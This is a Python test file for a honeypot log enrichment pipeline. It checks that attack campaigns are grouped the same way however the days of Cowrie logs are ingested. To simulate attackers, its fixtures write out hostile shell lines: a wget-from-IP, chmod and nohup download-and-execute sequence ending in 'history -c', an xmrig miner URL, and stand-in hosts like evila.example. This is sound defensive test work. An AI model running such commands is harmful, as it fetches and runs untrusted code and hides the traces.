"""Campaigns counted once more, by a plain search over the sessions, whatever happens to their days."""

from __future__ import annotations

import random
import re
from collections import defaultdict
from collections.abc import Iterable, Iterator
from datetime import date, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from cowrie_enrich_dagster.campaigns.masking import script_of
from cowrie_enrich_dagster.enrichment.addresses import summarise_addresses
from cowrie_enrich_dagster.enrichment.campaigns import find_campaigns
from cowrie_enrich_dagster.enrichment.ingest import ingest_days
from cowrie_enrich_dagster.storage.engine import Database
from cowrie_enrich_dagster.vocabulary import Days
from tests.attacks import Attack, write_attacks
from tests.integration.enrichment.test_campaigns import EMPTY, campaigns, file, members, merged, seen
from tests.logs import START, routable_ips

KINDS = ["key", "file", "host", "script"]
SENSORS = ["hp-a", "hp-b"]
NUMBER_OF_DAYS = 10
DAYS = [START.date() + timedelta(days=n) for n in range(NUMBER_OF_DAYS)]


def key(name: str) -> str:
    """The fingerprint of a key that is called so."""
    return "SHA256:" + (name * 43)[:43]


def artefacts(attack: Attack) -> set[tuple[str, str]]:
    """What the attack can have in common with others: it was made of nothing else."""
    found = {("file", one) for one in attack.files if one != EMPTY}
    urls = [*attack.urls, *re.findall(r"http://\S+", " ".join(attack.lines))]
    found |= {("host", url.split("/")[2]) for url in urls if "github" not in url}
    if attack.key:
        found.add(("key", attack.key))
    if script := script_of(attack.lines):
        found.add(("script", script))
    return found


def counted(attacks: Iterable[Attack]) -> dict[str, set[str]]:
    """The campaigns of these sessions: id -> sessions. From each session to all that share something."""
    attacks = list(attacks)
    everybody = {attack.src_ip for attack in attacks}
    having: dict[tuple[str, str], list[Attack]] = defaultdict(list)
    for attack in attacks:
        for artefact in artefacts(attack):
            having[artefact].append(attack)
    joining = {
        artefact: those
        for artefact, those in having.items()
        if len(everybody) < 20 or len({one.src_ip for one in those}) <= len(everybody) / 2
    }
    found: dict[str, set[str]] = {}
    left = {attack.session: attack for attack in attacks}
    while left:
        group, next_ones = dict[str, Attack](), [left.popitem()[1]]
        by_what: set[tuple[str, str]] = set()
        while next_ones:
            one = next_ones.pop()
            group[one.session] = one
            for artefact in artefacts(one) & joining.keys():
                by_what.add(artefact)
                for other in joining[artefact]:
                    if left.pop(other.session, None):
                        next_ones.append(other)
        if by_what and len(group) > 1:
            first = min(
                (min(one.start for one in joining[what]), KINDS.index(what[0]), identity(what))
                for what in by_what
            )
            found[first[2]] = set(group)
    return found


def identity(artefact: tuple[str, str]) -> str:
    """The id of an artefact, as data-dictionary.md has it."""
    return sha256("\0".join(artefact).encode()).hexdigest()[:16]


def at(rng: random.Random, first: int = 0, last: int = NUMBER_OF_DAYS - 1) -> datetime:
    """Some second of the days from the first to the last."""
    return START + timedelta(days=rng.randint(first, last), seconds=rng.randrange(86_000))


def noise(rng: random.Random, number: int, addresses: int) -> Iterator[Attack]:
    """What everybody does, from everywhere."""
    sources = routable_ips(addresses, offset=5_000)
    for n in range(number):
        yield Attack(
            f"noise{n:04}",
            rng.choice(sources),
            at(rng),
            rng.choice([(), ("uname -a",), ("enable", "system", "shell", "sh"), ("cat /proc/cpuinfo",)]),
            rng.choice([(), (EMPTY,)]),
            rng.choice([(), ("https://github.com/xmrig/x.tar.gz",)]),
            sensor=rng.choice(SENSORS),
        )


def planted(rng: random.Random) -> Iterator[Attack]:
    """A key all the time, a file in one week alone, a script that masks itself."""
    sources = routable_ips(90)
    for n in range(15):
        yield Attack(f"key{n:03}", sources.pop(), at(rng), key=key("k"), sensor=rng.choice(SENSORS))
    for n in range(20):
        yield Attack(f"file{n:03}", sources.pop(), at(rng, 5), files=(file("worm"), EMPTY), sensor="hp-b")
    for n in range(18):
        name = "".join(rng.choices("bcdfghjkqvwxz0123456789", k=9))
        lines = (
            f"cd /tmp; wget http://45.9.{rng.randrange(256)}.{rng.randrange(256)}/{name} -O {name}",
            f"chmod +x {name}; nohup ./{name} {rng.randrange(10**6)} & history -c",
        )
        yield Attack(f"script{n:03}", sources.pop(), at(rng), lines, sensor=rng.choice(SENSORS))


def logged(folder: Path, attacks: Iterable[Attack]) -> Path:
    """Logs of each sensor in a folder of its own; what was there before is gone."""
    attacks = list(attacks)
    for sensor in SENSORS:
        for old in (folder / sensor).glob("cowrie.json*"):
            old.unlink()
        write_attacks(folder / sensor, [attack for attack in attacks if attack.sensor == sensor])
    return folder


def of_day(attacks: Iterable[Attack], days: Iterable[date]) -> list[Attack]:
    """The attacks that began on these days."""
    return [attack for attack in attacks if attack.start.date() in set(days)]


def state(database: Database) -> tuple[dict[str, set[str]], list[dict[str, Any]]]:
    """Who is in which campaign, and what is told of each."""
    return members(database), campaigns(database)


@pytest.mark.parametrize("seed", [1, 2])
def test_any_order_of_days_gives_the_campaigns_that_are_there(
    database: Database, tmp_path: Path, seed: int
) -> None:
    """One by one, several at once, some twice: what was planted is found, with the ids of a plain count."""
    rng = random.Random(seed)
    attacks = [*noise(rng, 500, 160), *planted(rng)]
    # What 60 % of all sources have, some of them in the second week alone, is everybody's.
    everywhere = {attack.src_ip for attack in attacks if attack.session.startswith("noise")}
    attacks += [
        Attack(f"all{n:03}", ip, at(rng, 3 if n % 2 else 6), files=(file("everybody's"),), sensor="hp-a")
        for n, ip in enumerate(sorted(everywhere)[:150])
    ]
    logs = logged(tmp_path, attacks)
    order = rng.sample(DAYS, k=len(DAYS)) + rng.sample(DAYS, k=3)
    while order:
        first = order.pop()
        last = min(first + timedelta(days=rng.choice([0, 0, 0, 2])), DAYS[-1])
        seen(database, logs, Days(first, last))
    found = counted(attacks)
    assert members(database) == found
    assert sorted(map(len, found.values())) == [15, 18, 20]


def test_what_two_fifths_have_in_one_week_alone_is_a_campaign(database: Database, tmp_path: Path) -> None:
    """An outbreak is not what everybody has: not in that week, and less so later."""
    rng = random.Random(4)
    attacks = list(noise(rng, 400, 2_000))
    second_week = [a for a in attacks if a.start.date() >= DAYS[5]]
    sick = rng.sample(second_week, k=len(second_week) * 2 // 5)
    for attack in sick:
        attack.files = (file("outbreak"),)
    logs = logged(tmp_path, attacks)
    expected = {identity(("file", file("outbreak"))): {attack.session for attack in sick}}
    assert counted(attacks) == expected
    for days in (Days(DAYS[5], DAYS[-1]), Days(DAYS[0], DAYS[4])):
        seen(database, logs, days)
        assert members(database) == expected


def test_days_that_come_again_otherwise_end_as_a_plain_count(database: Database, tmp_path: Path) -> None:
    """Sessions come late, files of a sensor vanish and return, what was typed turns out to be something else.

    After each step all is as if these logs alone had ever been read; ids that were given out lead on.
    """
    rng = random.Random(5)
    stock = [("file", file(str(n))) for n in range(6)] + [("key", key(n)) for n in "abc"]
    stock += [("host", f"evil{chr(97 + n)}.example") for n in range(4)]
    sources = routable_ips(24)

    def attack(name: str, start: datetime, sensor: str) -> Attack:
        have = rng.sample(stock, k=rng.choice([0, 1, 1, 1, 2, 2]))
        return Attack(
            name,
            rng.choice(sources),
            start,
            rng.choice([(), ("uname -a",)]),
            tuple(value for kind, value in have if kind == "file"),
            tuple(f"http://{value}/x" for kind, value in have if kind == "host"),
            next((value for kind, value in have if kind == "key"), None),
            sensor,
        )

    kept = {
        name: attack(name, at(rng, 0, 4), rng.choice(SENSORS)) for name in (f"s{n:03}" for n in range(40))
    }
    hidden: set[tuple[str, date]] = set()
    known: dict[date, list[Attack]] = {}
    for step in range(14):
        for name in rng.sample(sorted(kept), k=3):
            kept[name] = attack(name, kept[name].start, kept[name].sensor)
        day = rng.choice(DAYS[:5])
        hidden ^= {(rng.choice(SENSORS), day)}
        there = [one for one in kept.values() if (one.sensor, one.start.date()) not in hidden]
        span = Days(DAYS[0], DAYS[4]) if step % 2 else Days(day, day)
        seen(database, logged(tmp_path, there), span)
        for read in span:
            # A day that no log has any more keeps its sessions.
            known[read] = of_day(there, [read]) or known.get(read, [])
        expected = counted(one for of_this in known.values() for one in of_this)
        assert members(database) == expected, step
        assert set(merged(database).values()) <= set(expected)
        told = {one["campaign_id"]: one for one in campaigns(database)}
        assert {name: one["sessions"] for name, one in told.items()} == {
            name: len(sessions) for name, sessions in expected.items()
        }, step


def test_days_whose_addresses_are_counted_after_campaigns_were_found(
    database: Database, tmp_path: Path
) -> None:
    """Of two runs the one finds campaigns when the other has read its logs, and not counted its addresses.

    What is everybody's is judged by all of them in the end.
    """
    common = file("common")
    attacks = [Attack(f"m{n:02}", f"11.0.0.{n}", START, files=(common,), sensor="hp-a") for n in range(14)]
    attacks += [Attack(f"o{n:02}", f"11.0.1.{n}", START, sensor="hp-a") for n in range(8)]
    later = START + timedelta(days=1)
    attacks += [Attack(f"l{n:02}", f"11.0.2.{n}", later, sensor="hp-a") for n in range(9)]
    logs = logged(tmp_path, attacks)
    one, other = Days(DAYS[0], DAYS[0]), Days(DAYS[1], DAYS[1])
    ingest_days(database, logs, one)
    summarise_addresses(database, one)
    ingest_days(database, logs, other)
    find_campaigns(database)
    assert members(database) == {}
    summarise_addresses(database, other)
    find_campaigns(database)
    assert members(database) == counted(attacks) != {}
